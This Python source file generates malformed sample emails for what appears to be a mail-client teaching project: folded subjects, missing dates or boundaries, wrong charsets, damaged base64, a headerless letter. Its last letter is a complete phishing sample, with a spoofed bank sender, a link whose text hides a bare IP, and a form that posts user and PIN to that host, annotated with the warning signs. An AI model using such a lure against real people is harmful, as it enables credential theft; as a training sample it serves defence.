# SPDX-License-Identifier: GPL-3.0-or-later
"""Letters that are broken, bare or false. Each says what it teaches."""

from post import CRLF, LETTERS, STUDENT, attachment, field, letter, multipart, person, text, wire, words
from lessons import VERA


def write():
    long_subject()
    empty_subject()
    no_date()
    no_end()
    wrong_charset()
    bad_base64()
    no_header()
    phishing()


def long_subject():
    subject = ("This subject has been growing since the conference of 2019, when somebody asked a question in it, "
               "somebody else answered in it, and nobody dared to shorten it for fear of losing the thread; by now "
               "it mentions the minutes (attached elsewhere), the budget (not attached), the cat of the treasurer "
               "(who is well), and a request, which is the reason for writing, to please keep subjects short")
    folded, line = [], ""
    for word in subject.split(" "):
        if len(line) + len(word) > 70:
            folded.append(line)
            line = ""
        line += (" " if line else "") + word
    letter("29-long-subject", "Committee of the Postal Society <committee@society.example.org>",
           "\r\n ".join(folded + [line]), "2026-09-12 13:37 +0200", text("""
(See subject.)

A header field may be as long as it likes if it is folded: a new line
that begins with a space continues the one before. A single line may
have 998 characters at most, and should have no more than 78 (RFC 5322,
section 2.1.1). The subject above takes several lines in the header and
not one of them is too long.
"""), to=f"Members <members@society.example.org>, {STUDENT}",
           extra=[("Cc", ",\r\n ".join(f"Member {n} <member{n}@society.example.org>" for n in range(1, 25)))])


def empty_subject():
    letter("30-no-subject", person("Игорь Савельев", "igor@apiary.example.com", "koi8-r"), "", "2026-09-15 07:03 +0300",
           text("""
Тема пуста, потому что я спешил: рой улетел!

Программе всё равно надо что-то показать в списке. Пустое место не
годится: в него трудно попасть мышью.

Поймал. Сидел на тополе.
""", "koi8-r", "base64"), mailer="Mutt/1.5.21", ip="198.51.100.7")


def no_date():
    letter("31-no-date", "Night Watch <watch@observatory.example.org>", "No date, only stars", "2026-09-18 02:40 +0000",
           text("""
This letter has no Date field. It was sent by the telescope's computer,
which has known the sidereal time to a millisecond since 1998 and has
never been told the calendar.

Every mail message must have a date (RFC 5322, section 3.6). When there
is none, the Received fields still tell when it was handed over. A mail
program may use them, as long as it does not pretend to know.

Transit of Vega: 18h 36m 56s. Sky: clear.
"""), dated=False)


def no_end():
    """The last boundary is missing, as if the line had dropped while the letter was sent."""
    parts = multipart("mixed", text("""
Dear Student,

this letter has two parts and an ending that never came: the closing
boundary is missing, and the second part breaks off in the middle of a
sentence. Both can be shown. A program should say that something is
missing, and not show an empty window.

Vera
"""), text("""
Postscript: what I had always wanted to tell you about the museum's
cellar is that behind the third shelf on the left there is a sma"""), end=False)
    letter("32-no-end", VERA, "An ending that never came", "2026-09-22 17:20 +0200", parts, mailer="Pigeon 4.2")


def wrong_charset():
    body = """
Здравствуйте!

Это письмо говорит, что оно в UTF-8, а на самом деле оно в кодировке
windows-1251. И в теме письма восьмибитные буквы стоят безо всякого
кодирования, что запрещено.

Так пишут самодельные рассыльщики. Программа, которая верит заголовку
на слово, покажет вопросительные знаки. Но эти байты не могут быть UTF-8:
там за первым байтом русской буквы всегда стоит второй, вида 10xxxxxx, а
здесь это не так. Значит, можно заметить обман и попробовать другие
кодировки.

Ваш самодельный рассыльщик
"""
    data = wire(body.lstrip("\n")).decode().encode("windows-1251")
    letter("33-wrong-charset", b'"' + "Рассыльщик".encode("windows-1251") + b'" <robot@homemade.example.net>',
           "Эта тема набрана как попало".encode("windows-1251"), "2026-09-25 15:55 +0300",
           field("Content-Type", "text/plain; charset=utf-8") + field("Content-Transfer-Encoding", "8bit") + CRLF + data,
           extra=[("X-Mailer", "mail.php/0.1")], host="homemade.example.net", returns="robot@homemade.example.net")


def bad_base64():
    good = attachment(b"Line one of the enclosed file.\r\nLine two of the enclosed file.\r\n" * 4,
                      'text/plain; name="enclosed.txt"', 'attachment; filename="enclosed.txt"')
    head, _, content = good.partition(CRLF + CRLF)
    lines = content.split(CRLF)
    lines[1] = lines[1][:20] + "*** COFFEE ***".encode() + lines[1][20:]
    lines[2] = lines[2][:-3]
    lines[-2] = lines[-2].rstrip(b"=")[:-1] + b"!!"
    letter("34-bad-base64", "Parcel Desk <parcels@office.example.org>", "Your parcel was slightly damaged",
           "2026-09-29 11:11 +0200", multipart("mixed", text("""
We regret to inform you that the enclosed file was damaged in transit.
Somebody spilled coffee over the base64: there are signs in it that do
not belong to its alphabet, three letters are missing from the third
line, and the padding at the end is wrong.

RFC 2045 says that signs outside the alphabet are to be ignored, so
some of the file can be saved. But how much of it is right? A good
program decodes what it can and says that the part is damaged.
"""), head + CRLF + CRLF + CRLF.join(lines)))


def no_header():
    """Not even the field that a delivering server adds: the file begins with an empty line."""
    LETTERS["35-no-header"] = wire("""
This letter has no header at all.

No sender, no subject, no date: it begins with an empty line, and all
that follows is body. Nothing in POP3 forbids it. The server counts its
octets, gives it a number and a unique-id, and hands it over like any
other.

In a list it should have a line that one can see and choose. Who wrote
it? It does not say. I could tell you, but then it would have a From.
""")


def phishing():
    html = """
<html><body style="font-family: Arial, sans-serif; color: #222">
<table width="560" cellpadding="16" style="border: 1px solid #ccd"><tr><td bgcolor="#003a70">
<span style="color: #fff; font-size: 20px"><b>Bank of Nowhere</b></span></td></tr>
<tr><td>
<p>Dear valued costumer,</p>
<p>we have noticed unusal activity on your account. To avoid <b>permanent suspension</b> please confirm your
details within <b style="color: #b00">24 hours</b>:</p>
<p><a href="http://203.0.113.99/~guest/bank-of-nowhere.example.com/login.html">https://www.bank-of-nowhere.example.com/login</a></p>
<p>or simply enter them here:</p>
<form action="http://203.0.113.99/~guest/collect" method="post">
User <input name="user"> PIN <input name="pin" type="password"> <input type="submit" value="Confirm"></form>
<p style="font-size: 11px; color: #777">This message was checked and contains no fraud.</p>
<hr>
<p style="font-size: 12px; color: #444"><i>A note from the practice mailbox:</i> count the warnings. The bank
does not know your name. It is in a hurry. Its spelling is poor. The text of the link names one place and the
link goes to another, a bare number. The form would send your PIN there without a page being opened. The
address of the sender is not the bank&rsquo;s, replies would go to a third one, and the receiving server noted
in <i>Authentication-Results</i> that nothing about the sender could be proved.</p>
</td></tr></table>
</body></html>
"""
    letter("36-bank-of-nowhere", '"Bank of Nowhere - security@bank-of-nowhere.example.com" <guest@cheap-host.example.net>',
           words("⚠ Action required: your account will be suspended"), "2026-10-06 03:14 +0000",
           text(html, kind="html"), ip="203.0.113.99", mailer="PHPMailer 5.2.9", returns="guest@cheap-host.example.net",
           extra=[("Reply-To", "confirm@prize-desk.example.com"), ("X-Priority", "1 (Highest)"),
                  ("Authentication-Results", "mail.example.org;\r\n\tdkim=none; spf=softfail"
                                             " smtp.mailfrom=cheap-host.example.net;\r\n\tdmarc=fail"
                                             " header.from=cheap-host.example.net"),
                  ("X-Spam-Flag", "YES"), ("X-Spam-Score", "9.7")])
